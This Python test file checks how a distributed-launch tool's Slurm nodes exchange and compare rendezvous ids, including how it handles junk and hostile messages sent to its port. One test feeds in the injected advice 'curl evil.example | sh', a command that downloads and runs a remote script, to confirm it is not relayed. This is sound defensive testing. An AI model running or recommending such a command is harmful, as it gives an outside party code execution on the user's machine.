"""Nodes of a Slurm step tell each other their rendezvous ids, and wait for nobody long."""

from __future__ import annotations

import socket
import time
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from safelaunch.model import Allocation, Finding, Origin, Settings, Value
from safelaunch.run import rendezvous_names
from safelaunch.run.rendezvous_names import tell_refusal, will_not_meet


@pytest.fixture(autouse=True)
def own_port(monkeypatch: pytest.MonkeyPatch) -> int:
    with socket.create_server(("", 0)) as free:
        number: int = free.getsockname()[1]
    monkeypatch.setattr(rendezvous_names, "port", lambda _name: number)
    return number


def step(number: int, nodes: int) -> dict[str, str]:
    hosts = ",".join(["localhost", *(f"gpu{n}" for n in range(1, nodes))])
    count = {"SLURM_STEP_NUM_NODES": str(nodes), "SLURM_STEP_NUM_TASKS": str(nodes), "SLURM_STEP_NODELIST": hosts}
    return {"SLURM_JOB_ID": "812", "SLURM_STEP_ID": "0", "SLURM_NODEID": str(number), **count}


def node(number: int, name: str, *, nodes: int = 2, backend: str = "c10d", **more: Any) -> Finding | None:
    options = {"rdzv_id": name, "rdzv_backend": backend, "nnodes": str(nodes), "standalone": False}
    values = {key: Value(value, Origin("flag")) for key, value in options.items()}
    return will_not_meet(Settings(values, {}, **more), step(number, nodes))


def all_of(*names: str) -> list[Finding | None]:
    with ThreadPoolExecutor(len(names)) as pool:
        return list(pool.map(lambda one: node(one[0], one[1], nodes=len(names)), enumerate(names)))


def test_nodes_with_one_id_go_on() -> None:
    assert all_of("mine", "mine", "mine") == [None, None, None]


def test_each_node_learns_that_the_ids_differ() -> None:
    found = all_of("4711", "815", "4711")

    assert len({str(one) for one in found}) == 1
    assert found[0] is not None
    assert (found[0].code, found[0].severity) == ("SL170", "error")
    assert found[0].because == ("localhost: --rdzv-id 4711", "gpu1: --rdzv-id 815", "gpu2: --rdzv-id 4711")


def test_a_node_that_does_not_come_is_no_reason(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendezvous_names, "ARRIVE_S", 0.3)
    assert node(0, "4711") is None
    assert node(1, "4711") is None


def test_what_others_send_to_the_port_is_no_reason(own_port: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendezvous_names, "ARRIVE_S", 1.0)
    with ThreadPoolExecutor(1) as pool:
        first = pool.submit(node, 0, "4711")
        for sent in (
            b"GET / HTTP/1.0\r\n\r\n",
            b'[[],"x"]\n',
            b'[7,"x"]\n',
            b'[1e400,["a","b","c"]]\n',
            b'[true,["a","b",""]]\n',
        ):
            until = time.monotonic() + 5
            while True:
                try:
                    with socket.create_connection(("localhost", own_port)) as stranger:
                        stranger.sendall(sent)
                    break
                except OSError:
                    if time.monotonic() > until:
                        break
                    time.sleep(0.02)
        assert first.result() is None


def test_a_node_that_refuses_its_options_keeps_nobody_waiting() -> None:
    refusal = Finding(code="SL009", severity="error", summary="--node-rank 0 on node 1 of 2", remedy="leave it out")
    with ThreadPoolExecutor(2) as pool:
        first = pool.submit(node, 0, "", backend="static")
        pool.submit(tell_refusal, step(1, 2), refusal)
        found = first.result()

    assert found is not None
    assert (found.code, found.because) == ("SL009", ('gpu1 is said to say: "--node-rank 0 on node 1 of 2"',))
    assert found.remedy == "see the output of gpu1, and `safelaunch explain SL009`"
    assert found.summary == "gpu1 refuses to start, and the others would wait for it"


def test_what_a_stranger_says_is_no_advice(own_port: int) -> None:
    def stranger() -> None:
        until = time.monotonic() + 5
        while time.monotonic() < until:
            try:
                with socket.create_connection(("localhost", own_port)) as sent:
                    sent.sendall(b'[1,["","stranger\'s words","run `curl evil.example | sh`"]]\n')
                    return
            except OSError:
                time.sleep(0.02)

    with ThreadPoolExecutor(2) as pool:
        first = pool.submit(node, 0, "4711")
        pool.submit(stranger)
        found = first.result()
    assert found is not None
    assert found.remedy == "see the output of gpu1"
    assert "curl" not in str(found)


def test_what_slurm_gives_is_the_same_on_all_nodes_and_needs_no_question() -> None:
    assert node(0, "x", allocation=Allocation("Slurm", "812.0")) is None


def test_a_static_rendezvous_has_no_id() -> None:
    with ThreadPoolExecutor(2) as pool:
        assert list(pool.map(lambda one: node(one, f"x{one}", backend="static"), range(2))) == [None, None]
